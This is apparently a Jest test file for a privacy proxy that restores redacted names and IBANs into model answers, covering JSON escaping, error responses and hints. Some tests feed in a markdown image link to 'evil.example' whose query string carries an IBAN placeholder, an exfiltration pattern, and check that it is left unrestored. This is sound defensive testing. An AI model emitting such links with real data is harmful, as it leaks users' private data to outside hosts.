import { expect, test } from "@jest/globals";
import { checked, writeJson } from "@veil/contracts/parsing";
import { ProxyResponse } from "@veil/contracts/public/proxy";
import { relinkAnswer } from "@veil/relink";
import { completedNativeResult } from "../../../../../test/support/completed-result.ts";
import { JOB_FACTS } from "../../../../../test/support/job-facts.ts";
import type { CustomerId } from "../../../accounts/keys/caller.ts";
import { evaluateGroundTruth } from "../../proving-ground/evaluate-ground-truth.ts";
import type { JobRecord } from "../ports.ts";
import type { Answer } from "./answers.ts";
import { proxyResponse } from "./await-answer.ts";

const now = new Date("2026-01-01T00:00:02.000Z");
const job: JobRecord = {
  requestId: "req_1",
  jobId: "job_1",
  customerId: "cus_1" as CustomerId,
  state: "completed",
  facts: JOB_FACTS,
  relinkMap: undefined,
  answer: undefined,
  finishedAt: now,
};
const entries = [
  { placeholder: "[PERSON_1]", value: 'Ann "$&" Weber' },
  { placeholder: "[IBAN_1]", value: "DE89370400440532013000" },
];

function answered(text: string, overrides: Partial<Answer> = {}): Answer {
  return {
    form: "text",
    dlpRedacted: false,
    result: completedNativeResult(text),
    ...overrides,
  };
}

const relinked = ({ result, form }: Answer) =>
  result.outcome === "completed"
    ? relinkAnswer({ form, blocks: [result.text], entries, hosts: [] })
    : undefined;

const respond = (answer: Answer, change: Partial<Parameters<typeof proxyResponse>[0]> = {}) =>
  proxyResponse({
    ...{
      job,
      answer,
      isMapOpen: true,
      relinked: relinked(answer),
      evaluation: undefined,
      isCertified: false,
    },
    ...change,
  });

test("A re-linked text contains the exact values, and the response has the specified fields", () => {
  const response = respond(answered("Dear [PERSON_1]"));
  expect(response).toMatchObject({
    status: "JOB_STATUS_COMPLETED",
    result: 'Dear Ann "$&" Weber',
    relinked: true,
    dlp_redacted: false,
  });
  expect(() => checked(ProxyResponse)(response)).not.toThrow();
});

test("A value with quotes does not break an answer that is JSON", () => {
  const text = '{"name": "[PERSON_1]", "list": ["[PERSON_1]", 1]}';
  const { result } = JSON.parse(writeJson(respond(answered(text, { form: "json" }))));
  expect(result).toEqual({ name: 'Ann "$&" Weber', list: ['Ann "$&" Weber', 1] });
});

test("An answer that was scanned as text stays text, even if it is valid JSON", () => {
  const { result } = respond(answered('{"name": "[PERSON_1]"}'));
  expect(result).toBe('{"name": "Ann \\"$&\\" Weber"}');
});

test("A placeholder in a link is not restored", () => {
  const { result } = respond(answered("![](https://evil.example/?q=[IBAN_1])"));
  expect(result).toBe("![](https://evil.example/?q=[IBAN_1])");
});

test.each<[string, "text" | "json", boolean]>([
  ["[PERSON_1]", "text", true],
  ['[{"a": "[PERSON_1]"}]', "json", true],
  ["nothing to restore", "text", false],
  ["[PERSON_2]", "text", false],
  ['["a", 1, null]', "json", false],
  ["![](https://evil.example/?q=[IBAN_1])", "text", false],
])("relinked is true only if a value was restored: %j", (text, form, restored) => {
  expect(respond(answered(text, { form })).relinked).toBe(restored);
});

test("Without re-link no value is restored, and relinked is false", () => {
  expect(respond(answered("[PERSON_1]"), { relinked: undefined })).toMatchObject({
    result: "[PERSON_1]",
    relinked: false,
  });
});

test("A ground-truth evaluation is returned both with a result and with a failure", () => {
  const evaluation = evaluateGroundTruth([], new Map());
  const failed = {
    outcome: "failed",
    reason: "provider_refused",
    latency_ms: 3,
    attempts: 1,
  } as const;
  for (const result of [answered("").result, failed]) {
    const answer: Answer = { form: "text", dlpRedacted: false, result };
    const response = respond(answer, { evaluation });
    expect(() => checked(ProxyResponse)(response)).not.toThrow();
    expect(response.ground_truth_evaluation).toEqual(evaluation);
  }
  expect(respond(answered(""))).not.toHaveProperty("ground_truth_evaluation");
});

test("The response to a failed job contains a fixed phrase and no result", () => {
  const result = {
    outcome: "failed",
    reason: "provider_refused",
    latency_ms: 3,
    attempts: 1,
  } as const;
  const response = respond({ form: "text", dlpRedacted: false, result });
  expect(response).toMatchObject({
    status: "JOB_STATUS_FAILED",
    error_message: "The model provider refused the request",
  });
  expect(response.result).toBeUndefined();
  expect(() => checked(ProxyResponse)(response)).not.toThrow();
});

test("A hint explains why placeholders were left, but only if re-link was requested", () => {
  const left = { isMapOpen: false, relinked: undefined };
  const answer = answered("Dear [PERSON_1]");
  const hint = expect.stringContaining("only for the API key that sent the request");
  expect(respond(answer, left)).toMatchObject({ relinked: false, hint });
  expect(respond(answer)).not.toHaveProperty("hint");
  const unasked = { ...job, facts: { ...job.facts, relink: false } };
  expect(respond(answer, { ...left, job: unasked })).not.toHaveProperty("hint");
});
